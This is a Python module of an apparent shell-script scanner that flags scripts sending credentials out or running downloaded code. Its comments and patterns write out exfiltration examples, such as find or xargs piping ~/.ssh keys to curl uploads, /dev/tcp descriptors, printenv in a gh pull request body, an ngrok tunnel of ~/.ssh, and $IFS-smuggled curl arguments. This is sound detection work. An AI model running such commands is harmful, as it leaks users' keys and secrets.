"""Commands that hand a file or its content on for another step: archives a download unpacks,
programs saved into a bin folder, Windows downloaders (``certutil``, ``bitsadmin``), ``find
-exec`` and ``xargs`` running a command per input, uploads through ``gh`` and pushes of a file
forced past ``.gitignore``, an installer given a downloaded package, instance-metadata
credentials, ``openssl s_client`` as a sender, ``printf -v`` and aliases building a command,
``git config`` of a setting git runs later (a credential helper, ``core.fsmonitor``, a ``!`` alias).

A mixin of the shell walk (:mod:`chimera_cards._scan.shell`): each step reads and writes the
walk's state (files, variables, facts) as the walk itself does.
"""

from __future__ import annotations

import re
from collections.abc import Callable
from typing import Any

from chimera_cards._scan.commands import GIT_SECRET_KEYS_RE, git_config_command, runs_a_url
from chimera_cards._scan.sensitive import (
    Send,
    Taint,
    credential_in,
    is_secret_name,
    metadata_secret,
    source_taint,
)
from chimera_cards._scan.shellfacts import MAX_COMMANDS, Command, Out, ShellFacts, Word, basename

_DEV_TCP_RE = re.compile(r"/dev/(?:tcp|udp)/([^/\s]+)/")
# Deepest nesting of one-liners and commands run for another (find -exec, xargs).
MAX_NESTED = 4
# curl${IFS}-d${IFS}@file: unquoted, $IFS splits words as a space does.
IFS_RE = re.compile(r"\$\{IFS\}|\$IFS\b")
# A search of the whole home folder (or the disk) for private-key files by name: what it finds
# is keys wherever they are kept (~/work/deploy.pem, ~/Downloads/id_rsa), not certificates in a
# project.
_HOME_ROOT_RE = re.compile(
    r"^(?:~|\$\{?HOME\}?|/|/home(?:/[^/]+)?|/Users(?:/[^/]+)?|/root|[A-Za-z]:\\?|"
    r"\$env:USERPROFILE)[/\\]?$"
)
_KEY_GLOB_RE = re.compile(
    r"^\*?(?:id_[\w*]*|\*?\.(?:pem|key|p12|pfx|ppk|jks|keystore|kdbx|ovpn)|\*?\.env[\w.*]*|"
    r"\*?credentials[\w.*]*)$",
    re.IGNORECASE,
)
# A source tree's own build steps (what building from a release tarball or a clone runs).
_BUILD_STEPS = frozenset(
    {"configure", "autogen.sh", "bootstrap", "bootstrap.sh", "gradlew", "mvnw", "buildconf"}
)
# Commands whose output is the names they are given or find (each line one path).
LISTERS = frozenset({"ls", "find", "fd", "fdfind", "locate"})
# Options of read/mapfile that take a value (the rest of the words are variable names).
_READ_VALUE_OPTS = frozenset({"-p", "-d", "-n", "-N", "-t", "-u", "-i", "-C", "-c", "-O", "-s"})


def found_credential(root: str, patterns: list[str]) -> str | None:
    """The credential files a search from ``root`` for names ``patterns`` finds, if any.

    Args:
        root: the folder searched (as written: ``~``, ``$HOME``, ``~/.ssh``).
        patterns: the ``-name``/``-path`` globs (empty: every file).
    Returns:
        A name for the message, or None.
    """
    for pattern in patterns or ["*"]:
        found = credential_in(root.rstrip("/\\") + "/" + pattern)
        if found:
            return found
        if _HOME_ROOT_RE.match(root) and _KEY_GLOB_RE.match(pattern.strip("'\"")):
            return f"key files found under {root} ({pattern})"
    return None


def file_argument(text: str) -> str:
    """The file an argument names: curl's ``-F f=@path``, ``-d @path``, ``name=<path``."""
    if text.startswith("@"):
        return text[1:]
    for mark in ("=@", "=<"):
        at = text.find(mark)
        if at > 0:
            return text[at + 2 :].split(";", 1)[0]
    return text


class Relays:
    """The steps above, as methods of the shell walk."""

    # Defined by the walk this class is mixed into.
    facts: ShellFacts
    depth: int
    texts: dict[str, str]
    vars: dict[str, Out]
    aliases: dict[str, list[str]]
    fds: dict[str, str]
    word: Callable[[Any], Word]
    read_path: Callable[[Word, int], Out]
    write: Callable[..., None]
    run: Callable[[Command, Out], Out]
    _ran: Callable[[Command, Out, str], None]
    _run_code: Callable[[str, str, int, Out, str], Out]
    _output_file: Callable[[Command], str | None]

    def _open_descriptor(self, redirect: Any) -> None:
        # exec 3<>/dev/tcp/host/443: what is later written to >&3 goes to that host.
        descriptor = next((c for c in redirect.children if c.type == "file_descriptor"), None)
        dest = redirect.child_by_field_name("destination")
        if descriptor is None or dest is None:
            return
        path = self.word(dest).text
        if _DEV_TCP_RE.search(path):
            self.fds[descriptor.text.decode("utf-8", "replace")] = path

    def relays(self, cmd: Command, stdin: Out, out: Out) -> None:
        """The steps of one command (``out`` is what it writes to its output)."""
        name = cmd.name
        if name in ("gh", "glab"):
            self._gh_upload(cmd, stdin)
        self._extracts(cmd)
        self._windows_download(cmd)
        if name in ("curl", "wget", "Invoke-RestMethod", "iwr", "irm"):
            for given in cmd.argv:
                secret = metadata_secret(given)
                if secret is not None:
                    out.taint.add(secret)
                    self.facts.reads.append((cmd.line, secret))
        if name == "openssl" and cmd.argv[:1] == ["s_client"]:
            # openssl s_client -connect host:443 < file: the file goes to the host.
            target = option_value(cmd.argv, ("-connect",))
            if target and stdin.taint:
                host = target.rsplit(":", 1)[0]
                self.facts.sends.append(
                    Send(cmd.line, host, "openssl s_client", body=set(stdin.taint))
                )
        as_module = name.startswith("python") and cmd.argv[:2] in (["-m", "pip"], ["-m", "pip3"])
        if (
            name in ("pip", "pip3", "uv", "npm", "pnpm", "yarn", "gem", "pipx") or as_module
        ) and "install" in cmd.argv:
            # curl -o x.whl URL; pip install x.whl: installing a package runs its code.
            for given in cmd.argv:
                known = self.facts.tainted_files.get(given) or self._extracted(given)
                if known is not None and known.downloaded:
                    how = f"{name} -m pip" if as_module else name
                    self._ran(cmd, known, f"{how} install {given}")
                    break
        self.publishes(cmd)
        self.mounts(cmd)
        if name in ("ngrok", "cloudflared", "lt", "localtunnel") and any(
            credential_in(a) for a in cmd.argv
        ):
            # ngrok http file:///$HOME/.ssh: the folder served to whoever has the tunnel's URL.
            found = {Taint("credential", c) for a in cmd.argv if (c := credential_in(a))}
            self.facts.sends.append(Send(cmd.line, f"a {name} tunnel", name, body=found))
        if name == "find" and any(a in ("-exec", "-execdir", "-ok") for a in cmd.argv):
            self._find_exec(cmd)
        if name == "printf" and len(cmd.argv) >= 3 and cmd.argv[0] == "-v":
            self._printf_assign(cmd.argv[1], cmd.argv[2], cmd.argv[3:], out)
        package = _run_package(name, cmd.argv)
        if package is not None and package.startswith(("http://", "https://")):
            # npx https://…/tool.tgz: a package fetched from an address and run at once (a URL
            # given to the package it runs, npx skills add URL, is that package's argument).
            self._ran(cmd, Out(downloaded=True), f"{name} of a URL")
        if (
            name in ("deno", "bun", "pipx", "uv", "uvx")
            and (name == "uvx" or "run" in cmd.argv[:3])
            and runs_a_url(cmd.argv if name == "uvx" else cmd.argv[cmd.argv.index("run") + 1 :])
        ):
            # deno run https://…: code from the network run as it arrives, like curl | sh.
            self._ran(cmd, Out(downloaded=True), f"{name} run of a URL")

    def mounts(self, cmd: Command) -> None:
        """docker run -v ~/.ssh:/root/.ssh IMAGE: the image's code holds the keys and may send
        them anywhere; only the credential's own vendor image is its tool."""
        mounted = container_mounts(cmd.name, cmd.argv)
        if mounted is not None:
            image, found = mounted
            self.facts.sends.append(
                Send(cmd.line, image, f"{cmd.name} run with it mounted", body=found)
            )

    def publishes(self, cmd: Command) -> None:
        """npm publish, docker push, cargo publish, gem push: what the folder holds goes public,
        with the copies of credential stores an earlier step made into it."""
        argv = cmd.argv
        head = argv[0] if argv else ""
        if not (
            (cmd.name in ("npm", "pnpm", "yarn", "cargo", "bun") and head == "publish")
            or (cmd.name in ("docker", "podman") and head == "push")
            or (cmd.name == "gem" and head == "push")
        ):
            return
        copied: set[Taint] = set()
        for path, content in self.facts.tainted_files.items():
            if not path.startswith(("/", "~", "$")):
                copied |= {t for t in content.taint if t.kind == "credential"}
        if copied:
            target = next((a for a in argv[1:] if not a.startswith("-")), "")
            host = target.split("/", 1)[0] if cmd.name in ("docker", "podman") else cmd.name
            self.facts.sends.append(Send(cmd.line, host, f"{cmd.name} {head}", body=copied))

    def realias(self, words: list[Word]) -> list[Word]:
        # alias get='curl -s -T'; get ~/.ssh/id_rsa URL: the alias is the command it names.
        if not words:
            return words
        if words[0].text == "alias":
            for word in words[1:]:
                name, sep, value = word.text.partition("=")
                if sep and value.split():
                    self.aliases[name] = value.split()
            return words
        expanded = self.aliases.get(words[0].text)
        if expanded is None:
            return words
        return [*(Word(w, Out()) for w in expanded), *words[1:]]

    def _nested(self, cmd: Command, words: list[Word], stdin: Out) -> None:
        """A command another runs for it (find -exec, xargs), read as if run itself."""
        if not words or self.depth >= MAX_NESTED:
            return
        inner = Command(basename(words[0].text), words[1:], cmd.line, [], stdin)
        if len(self.facts.commands) < MAX_COMMANDS:
            self.facts.commands.append(inner)
        self.run(inner, stdin)

    def _find_exec(self, cmd: Command) -> None:
        # find ~/.ssh -name 'id_*' -exec curl -T {} URL \;: each file found is the {}.
        argv = cmd.argv
        start = next(i for i, a in enumerate(argv) if a in ("-exec", "-execdir", "-ok"))
        roots = [a for a in argv[:start] if not a.startswith("-")][:1] or ["."]
        name = option_value(argv[:start], ("-name", "-iname", "-path"))
        found = roots[0].rstrip("/") + "/" + (name or "*")
        held = Out()
        credential = found_credential(roots[0], _find_patterns(argv[:start]))
        if credential:
            held.taint.add(Taint("credential", credential))
        words = []
        for word in cmd.args[start + 1 :]:
            if word.text in (";", "\\;", "+"):
                break
            words.append(Word(found, held.copy()) if word.text == "{}" else word)
        self._nested(cmd, words, Out())

    def listing(self, cmd: Command, out: Out) -> None:
        """``ls ~/.ssh/id_*``, ``find ~ -name '*.pem'``: the output names credential files, and a
        loop or ``xargs`` that hands each name to an upload sends the file."""
        argv = cmd.argv
        if cmd.name in ("find", "fd", "fdfind"):
            plain = [a for a in argv if not a.startswith("-")]
            if cmd.name == "find":
                first = next((i for i, a in enumerate(argv) if a.startswith("-")), len(argv))
                credential = found_credential((argv[:first] or ["."])[0], _find_patterns(argv))
            else:  # fd PATTERN [PATH]
                root = plain[1] if len(plain) > 1 else "."
                credential = found_credential(root, plain[:1])
        else:
            credential = next(
                (c for a in argv if not a.startswith("-") and (c := credential_in(a))), None
            )
        if credential:
            out.taint.add(Taint("credential", credential))

    def read_into(self, cmd: Command, stdin: Out) -> None:
        """``… | while read f``: each variable ``read`` fills holds what the pipe brings."""
        args = list(cmd.argv)
        names: list[str] = []
        while args:
            word = args.pop(0)
            if word in _READ_VALUE_OPTS and args:
                args.pop(0)
            elif not word.startswith("-") and re.fullmatch(r"[A-Za-z_]\w*", word):
                names.append(word)
        for name in names:
            self.vars[name] = stdin.copy()

    def _xargs_command(self, cmd: Command, stdin: Out) -> None:
        # ls ~/.ssh/id_* | xargs -I{} curl -T {} URL: each input line is the {} (or the last
        # argument).
        args = list(cmd.args)
        marker = None
        while args and args[0].text.startswith("-"):
            flag = args.pop(0).text
            if flag in ("-I", "-i") and args:
                marker = args.pop(0).text
            elif flag.startswith("-I") and len(flag) > 2:
                marker = flag[2:]
            elif flag in ("-n", "-P", "-L", "-d", "-s", "-E") and args:
                args.pop(0)
        given = Word("-", stdin.copy())
        words = [given if w.text == marker else w for w in args] if marker else [*args, given]
        self._nested(cmd, words, stdin)

    def _printf_assign(self, name: str, form: str, values: list[str], out: Out) -> None:
        # printf -v p '%s/.%s/%s' "$HOME" ssh id_rsa: p holds the path the pieces make.
        pieces = iter(values)
        text = re.sub(r"%[-+ #0-9.]*[sbqdi]", lambda _: next(pieces, ""), form)
        held = Out(taint=set(out.taint))
        found = credential_in(text)
        if found:
            held.taint |= {Taint("credential", found), Taint("path", text)}
        self.texts[name] = text
        self.vars[name] = held

    def _git_clone(self, argv: list[str]) -> None:
        # git clone URL dir: what the folder holds came off the network, as an unpacked
        # download's files do (its installer run next is download-then-run).
        if argv[:1] != ["clone"]:
            return
        plain = [a for a in argv[1:] if not a.startswith("-")]
        url = next((a for a in plain if "://" in a or a.startswith("git@")), None)
        if url is None:
            return
        rest = plain[plain.index(url) + 1 :]
        into = rest[0] if rest else url.rstrip("/").rsplit("/", 1)[-1].removesuffix(".git")
        self.facts.tainted_files.setdefault(into.rstrip("/") + "/", Out()).downloaded = True

    def _git_forced(self, argv: list[str], line: int) -> None:
        # git add -f .env: a file git was told to ignore, forced into the next push.
        if argv[:1] != ["add"] or not any(a in ("-f", "--force") for a in argv):
            return
        for path in argv[1:]:
            if path.startswith("-"):
                continue
            found = credential_in(path) or (
                path if path.rsplit("/", 1)[-1].startswith(".env") else None
            )
            if found:
                taint = Taint("credential", f"{found} (forced past .gitignore)")
                self.facts.tainted_files.setdefault(path, Out()).taint.add(taint)

    def _gh_upload(self, cmd: Command, stdin: Out) -> None:
        # gh gist create FILE…, gh release upload TAG FILE…, gh issue create --body-file F:
        # the files go to GitHub, readable by whoever the gist, release or issue is public to.
        argv = cmd.argv
        words = [a for a in argv if not a.startswith("-")]
        files: list[str] = []
        if words[:2] in (["gist", "create"], ["gist", "edit"]):
            files = words[2:]
        elif words[:2] == ["release", "upload"]:
            files = words[3:]
        files += [
            v for v in (option_value(argv, ("--body-file", "-F", "--add", "-a")),) if v is not None
        ]
        body: set[Taint] = set()
        for path in files:
            body |= (
                stdin.taint if path == "-" else self.read_path(Word(path, Out()), cmd.line).taint
            )
        if words[:1] and words[0] in _GH_PUBLISHED:
            # gh pr create --body "$(printenv)", gh api … -f body="$(cat …)": text put into a
            # pull request, issue, release or gist is published; a header is the request's own.
            header = False
            for arg in cmd.args:
                if not header:
                    body |= {t for t in arg.out.taint if t.kind != "path"}
                header = arg.text in ("-H", "--header")
        if body:
            host = {"gist": "gist.github.com", "api": "api.github.com"}.get(words[0], "github.com")
            host = "gitlab.com" if cmd.name == "glab" else host
            self.facts.sends.append(Send(cmd.line, host, f"{cmd.name} {words[0]}", body=body))

    def _extracts(self, cmd: Command) -> None:
        # tar -xzf dl.tgz -C /tmp, unzip dl.zip -d /tmp/x: what a download unpacks is downloaded.
        argv = cmd.argv
        if cmd.name == "tar" and any(
            (a.startswith("-") and not a.startswith("--") and "x" in a)
            or a == "--extract"
            or (not a.startswith("-") and a.startswith("x") and len(a) < 6 and a.isalpha())
            for a in argv
        ):
            archives = [a for a in argv if self.facts.tainted_files.get(a) is not None]
            into = option_value(argv, ("-C", "--directory")) or "./"
        elif cmd.name == "unzip":
            archives = [a for a in argv if self.facts.tainted_files.get(a) is not None]
            into = option_value(argv, ("-d",)) or "./"
        else:
            return
        piped = cmd.name == "tar" and cmd.stdin.downloaded and not archives
        if piped or any(self.facts.tainted_files[a].downloaded for a in archives):
            folder = into.rstrip("/") + "/"
            self.facts.tainted_files.setdefault(folder, Out()).downloaded = True
            if folder.endswith("/bin/"):
                # curl URL | tar xz -C ~/.local/bin [NAME…]: the members named (or, none named,
                # whatever the archive holds) are programs on the PATH, run later by name.
                members = [a for a in argv[1:] if _member(a, argv)] or ["*"]
                for member in members:
                    self.facts.unpacked_on_path[folder + member] = cmd.line

    def _on_path(self, name: str, line: int) -> Out | None:
        # wget -O ~/.local/bin/agent URL; agent: a program saved into a bin folder runs by name.
        if "/" in name or not name:
            return None
        for where, at in self.facts.unpacked_on_path.items():
            # curl URL | tar xz -C ~/.local/bin; tool --fix: the steps of one recipe. A name run
            # pages later is the user's installed tool (a CLI's reference page), not this step's.
            base = where.rpartition("/")[2]
            near = 0 <= line - at <= NEXT_STEPS
            if near and (base == name or (base == "*" and name not in COMMON_COMMANDS)):
                return Out(downloaded=True)
        for where, content in self.facts.tainted_files.items():
            folder, _, base = where.rpartition("/")
            if base == name and folder.endswith("/bin") and content.downloaded:
                return content
        return None

    def _extracted(self, path: str, *, building: bool = False) -> Out | None:
        if building and basename(path) in _BUILD_STEPS:
            # tar xf php.tgz && cd php && ./configure: a build from source, as its docs show it
            return None
        for where, content in self.facts.tainted_files.items():
            inside = (where == "./" and path.startswith("./")) or path.startswith(where)
            if where.endswith("/") and content.downloaded and inside:
                return content
        return None

    def _windows_download(self, cmd: Command) -> None:
        # certutil -urlcache -f URL out.exe, bitsadmin /transfer job URL out.exe
        argv = cmd.argv
        if cmd.name.lower() in ("certutil", "certutil.exe") and any(
            a.lower().lstrip("-/") == "urlcache" for a in argv
        ):
            plain = [a for a in argv if not a.startswith(("-", "/")) or a.count("/") > 1]
            urls = [a for a in plain if a.startswith(("http://", "https://"))]
            rest = [a for a in plain if a not in urls]
            if urls and rest:
                self.facts.tainted_files.setdefault(rest[-1], Out()).downloaded = True
        elif (
            cmd.name.lower() in ("bitsadmin", "bitsadmin.exe")
            and "/transfer" in (a.lower() for a in argv)
            and not argv[-1].startswith("/")
        ):
            self.facts.tainted_files.setdefault(argv[-1], Out()).downloaded = True

    def git_runs(self, cmd: Command, stdin: Out, out: Out) -> None:
        """``git config`` of a setting whose value git runs (a credential helper, an fsmonitor,
        a ``!`` alias): the value read as shell; for a credential helper or askpass program,
        whatever it sends carries the credentials git hands it."""
        setting = git_config_command(cmd.argv)
        if setting is None:
            return
        key, code = setting
        before = len(self.facts.sends)
        out.merge(self._run_code("shell", code, cmd.line, stdin, f"git {key}"))
        if GIT_SECRET_KEYS_RE.match(key):
            for send in self.facts.sends[before:]:
                if send.sink == "network":
                    send.body.add(Taint("credential", f"the credentials git hands its {key}"))


_ENV_DUMPS = frozenset({"env", "printenv", "set", "export", "declare", "compgen", "typeset"})


def dumps_env(name: str, argv: list[str]) -> bool:
    """Whether a command prints every environment variable (or a secret one)."""
    if name not in _ENV_DUMPS:
        return False
    if name == "printenv":
        return not argv or any(is_secret_name(a) for a in argv)
    if name in ("env", "set"):
        return not argv
    if name in ("export", "declare", "typeset"):
        return argv in (["-p"], ["-x"], ["-px"])
    return argv[:1] in (["-e"], ["-v"])  # compgen


def arguments_after(args: list[Word], code: Word) -> Out:
    r"""What the words after a one-liner's code carry (``find … -exec python3 -c CODE {} \;``):
    its ``sys.argv``, its ``$1``."""
    out = Out()
    for arg in args[args.index(code) + 1 :] if code in args else []:
        out.merge(arg.out)
        found = credential_in(arg.text)
        if found:
            out.taint.add(source_taint(found))
    return out


# gh and glab commands whose text arguments end up in something others read.
_GH_PUBLISHED = frozenset({"pr", "mr", "issue", "release", "gist", "snippet", "api", "discussion"})


def option_value(argv: list[str], names: tuple[str, ...]) -> str | None:
    """The value of the first of these options (``-C dir``, ``--directory=dir``)."""
    for index, arg in enumerate(argv):
        if arg in names and index + 1 < len(argv):
            return argv[index + 1]
        for name in names:
            if name.startswith("--") and arg.startswith(name + "="):
                return arg.split("=", 1)[1]
    return None


def _find_patterns(argv: list[str]) -> list[str]:
    """Every ``-name``/``-iname``/``-path`` glob of a find (``\\( -name a -o -name b \\)``)."""
    return [
        argv[i + 1]
        for i, a in enumerate(argv[:-1])
        if a in ("-name", "-iname", "-path", "-ipath", "-wholename")
    ]


# Local web servers that serve a folder: name -> (options naming the folder, options naming the
# address listened on). python -m http.server listens on every interface unless told otherwise.
_LOOPBACK = ("127.0.0.1", "localhost", "::1", "[::1]")


def file_server(name: str, argv: list[str], cwd: str, line: int) -> Send | None:
    """A file server started on the home folder (or a credential folder) and open to the
    network: every key in it is one request away for whoever reaches the machine.

    Args:
        name: the command.
        argv: its arguments.
        cwd: the folder the walk last changed to (``cd ~``).
        line: the command's line.
    Returns:
        The send, or None when nothing sensitive is served or only to this machine.
    """
    folder: str | None = None
    bind: str | None = None
    if re.fullmatch(r"python[0-9.]*|py", name) and any(
        argv[i : i + 2] in (["-m", "http.server"], ["-m", "SimpleHTTPServer"])
        for i in range(len(argv))
    ):
        folder = option_value(argv, ("-d", "--directory")) or cwd
        bind = option_value(argv, ("-b", "--bind"))
    elif name == "php" and "-S" in argv:
        folder = option_value(argv, ("-t",)) or cwd
        bind = (option_value(argv, ("-S",)) or "").rsplit(":", 1)[0]
    elif name in ("npx", "http-server", "serve") and (
        name != "npx" or any(a in ("serve", "http-server") for a in argv)
    ):
        plain = [a for a in argv if not a.startswith("-") and a not in ("serve", "http-server")]
        folder = plain[0] if plain and not plain[0].isdigit() else cwd
        bind = option_value(argv, ("-a", "--listen", "-l"))
    elif name == "busybox" and argv[:1] == ["httpd"]:
        folder = option_value(argv, ("-h",)) or cwd
    if folder is None or (bind or "").startswith(_LOOPBACK):
        return None
    served = found_credential(folder, []) or (
        f"the home folder ({folder}) with its keys" if _HOME_ROOT_RE.match(folder) else None
    )
    if served is None:
        return None
    body = {Taint("credential", served)}
    return Send(line, "every network interface", f"a file server ({name})", body=body)


# tr 'A-Za-z' 'N-ZA-Mn-za-m': letters swapped for others (rot13 and its kin), a text kept
# unreadable until it runs. A change of case (tr a-z A-Z, [:upper:] [:lower:]) is not one.
_TR_SET_RE = re.compile(r"^[A-Za-z-]{3,}$")


def letter_cipher(argv: list[str]) -> bool:
    """Whether ``tr`` with these arguments swaps letters for other letters."""
    sets = [a for a in argv if not a.startswith("-")]
    return (
        len(sets) == 2
        and all(_TR_SET_RE.match(s) for s in sets)
        and sets[0].lower() != sets[1].lower()
    )


# Variables that name a credential file (a tool reads its secrets from the file they name):
# unset in the skill, they stand for the tool's default file.
CREDENTIAL_PATH_VARIABLES = {
    "KUBECONFIG": "~/.kube/config",
    "AWS_SHARED_CREDENTIALS_FILE": "~/.aws/credentials",
    "GOOGLE_APPLICATION_CREDENTIALS": "~/.config/gcloud/application_default_credentials.json",
    "NPM_CONFIG_USERCONFIG": "~/.npmrc",
    "NETRC": "~/.netrc",
    "GIT_CREDENTIALS_FILE": "~/.git-credentials",
}
_PRINTF_SPEC_RE = re.compile(r"%[-+ #0-9.]*[sbqdi]")


def printed_text(node: Any) -> str | None:
    """What ``$(printf '%s%s' .a ws)`` or ``$(echo .ssh)`` prints when every word is written
    out (a path put together from pieces), or None."""
    parts = node.named_children
    if len(parts) != 1 or parts[0].type != "command":
        return None
    words: list[str] = []
    for child in parts[0].named_children:
        if child.type == "command_name":
            words.append(child.text.decode("utf-8", "replace"))
        elif child.type == "raw_string":
            words.append(child.text.decode("utf-8", "replace")[1:-1])
        elif child.type == "word" or (
            child.type == "string"
            and all(c.type in ('"', "string_content") for c in child.children)
        ):
            words.append(child.text.decode("utf-8", "replace").strip('"'))
        else:
            return None
    if words[1:] == ["config", "get", "userconfig"] and words[0] in ("npm", "pnpm"):
        return "~/.npmrc"  # the file npm keeps its registry tokens in
    if not words or words[0] not in ("printf", "echo"):
        return None
    if words[0] == "echo":
        return " ".join(w for w in words[1:] if w not in ("-n", "-e", "-ne", "-en"))
    if len(words) < 2:
        return None
    pieces = iter(words[2:])
    return _PRINTF_SPEC_RE.sub(lambda _: next(pieces, ""), words[1])


def _run_package(name: str, argv: list[str]) -> str | None:
    """The package ``npx``/``bunx``/``pnpm dlx``/``yarn dlx`` fetches and runs (its first word
    or its ``--package``), or None for another command."""
    if name in ("pnpm", "yarn") and argv[:1] == ["dlx"]:
        argv = argv[1:]
    elif name not in ("npx", "bunx"):
        return None
    given = option_value(argv, ("-p", "--package"))
    if given is not None:
        return given
    return next((a for a in argv if not a.startswith("-")), None)


def drop_discarded_lookup(facts: ShellFacts, commands: int, reads: int, outputs: list[str]) -> None:
    """A keychain lookup whose output goes to /dev/null (``security find-generic-password -s x
    -w &>/dev/null`` in an ``if``) asks whether the item exists: the secret it prints reaches
    nobody, so it is no read (``-g`` prints it on the error stream: still a read).

    Args:
        facts: the unit's facts; its reads from index ``reads`` on are the redirected body's.
        commands: how many commands the unit had run before that body.
        reads: how many reads it had before that body.
        outputs: where the body's output is redirected (all to /dev/null, or nothing is done).
    """
    if not outputs or any(path != "/dev/null" for path in outputs):
        return
    ran = facts.commands[commands:]
    if len(ran) != 1 or ran[0].name != "security" or "-g" in ran[0].argv:
        return
    facts.reads[reads:] = [
        (line, taint)
        for line, taint in facts.reads[reads:]
        if not taint.what.startswith("macOS keychain")
    ]


_RUNTIMES = frozenset({"docker", "podman", "nerdctl", "finch"})
# Options of `docker run` that take a value (the image is the first word after the options).
_RUN_VALUE_OPTS = frozenset(
    {"-e", "--env", "-p", "--publish", "-w", "--workdir", "--name", "--network", "--net", "-u",
     "--user", "--entrypoint", "-l", "--label", "--platform", "--env-file", "--mount", "-v",
     "--volume", "--cpus", "-m", "--memory", "--restart", "--pull", "-h", "--hostname",
     "--add-host", "--device", "--log-driver", "--cap-add", "--cap-drop", "--security-opt",
     "--tmpfs", "--ulimit", "--gpus", "--volumes-from", "--ipc", "--pid", "--shm-size",
     "--runtime", "--dns", "--expose", "--link", "--stop-signal", "-a", "--attach", "--cidfile"}
)  # fmt: skip
# A credential's own vendor image: the documented way to run that CLI with its own store.
_VENDOR_IMAGES = (
    ("aws", ("amazon/aws-cli", "public.ecr.aws/aws-cli/")),
    ("gcloud", ("google/cloud-sdk", "gcr.io/google.com/cloudsdktool/")),
    ("azure", ("mcr.microsoft.com/azure-cli",)),
    ("kube", ("bitnami/kubectl", "registry.k8s.io/kubectl")),
)


def container_mounts(name: str, argv: list[str]) -> tuple[str, set[Taint]] | None:
    """The image a ``docker run`` (``podman``, ``nerdctl``) hands credential stores to through
    ``-v``/``--volume``/``--mount``, and those stores; None when none is mounted or the image is
    the credential's own vendor CLI (``amazon/aws-cli`` with ``~/.aws``)."""
    if name not in _RUNTIMES:
        return None
    words = argv[1:] if argv[:1] == ["container"] else argv
    if words[:1] not in (["run"], ["create"]):
        return None
    sources: list[str] = []
    image = ""
    index = 1
    while index < len(words):
        word = words[index]
        option, eq, value = word.partition("=")
        if option in ("-v", "--volume", "--mount") or (word.startswith("-v") and len(word) > 2):
            if not eq and option == word and word in ("-v", "--volume", "--mount"):
                index += 1
                value = words[index] if index < len(words) else ""
            elif not eq:
                value = word[2:]
            if option == "--mount":
                fields = dict(f.partition("=")[::2] for f in value.split(","))
                sources.append(fields.get("source") or fields.get("src") or "")
            else:
                sources.append(value.split(":", 1)[0])
        elif word.startswith("-"):
            if word in _RUN_VALUE_OPTS and not eq:
                index += 1
        else:
            image = word
            break
        index += 1
    # A folder mounted whole gives the image every file in it (~/.kube holds config).
    found = {
        Taint("credential", c)
        for s in sources
        for inside in ("/", "/config", "/credentials")
        if (c := credential_in(s.rstrip("/") + inside))
    }
    if any(_HOME_ROOT_RE.match(s) and s not in ("/", "") for s in sources):
        found.add(Taint("credential", "the home folder (its .ssh, .aws and the rest)"))
    if not found or not image:
        return None
    lowered = image.lower()
    for needle, vendors in _VENDOR_IMAGES:
        if all(needle in t.what.lower() for t in found) and lowered.startswith(vendors):
            return None
    return image, found


# How many lines after an unpacking onto the PATH a name run counts as the same recipe's step.
NEXT_STEPS = 4
# Commands every system has: an archive unpacked onto the PATH with no member named is taken to
# hold the unknown programs run after it, not these.
COMMON_COMMANDS = frozenset(
    {"cd", "ls", "cp", "mv", "rm", "mkdir", "chmod", "chown", "ln", "cat", "echo", "printf",
     "export", "source", ".", "test", "[", "true", "false", "set", "unset", "sudo", "env",
     "which", "command", "type", "hash", "tar", "unzip", "gzip", "curl", "wget", "git", "ssh",
     "grep", "sed", "awk", "find", "xargs", "sort", "head", "tail", "tr", "cut", "wc", "tee",
     "touch", "install", "bash", "sh", "zsh", "python", "python3", "pip", "pip3", "node", "npm",
     "npx", "uv", "go", "cargo", "make", "apt", "apt-get", "brew", "dnf", "yum", "apk", "docker",
     "uname", "id", "whoami", "date", "sleep", "exit", "return", "read", "eval", "exec", "if",
     "for", "while", "do", "done", "then", "fi", "xattr", "rustup", "gem", "ruby", "perl",
     "sha256sum", "shasum", "file", "readlink", "realpath", "dirname", "basename", "mktemp",
     "rmdir", "du", "df"}
)  # fmt: skip


def _member(word: str, argv: list[str]) -> bool:
    """A word of a tar command that names a member to extract (not an option or its value)."""
    if word.startswith("-") or "=" in word:
        return False
    at = argv.index(word)
    before = argv[at - 1] if at else ""
    if before in ("-C", "--directory", "-f", "--file", "--strip-components", "--exclude", "-T"):
        return False
    # A bundled option word ending in f or C takes this word as its value (tar -xzf FILE).
    if before.startswith("-") and not before.startswith("--") and before[-1:] in ("f", "C"):
        return False
    return not (at == 0 and word.isalpha() and word.startswith("x") and len(word) < 6)
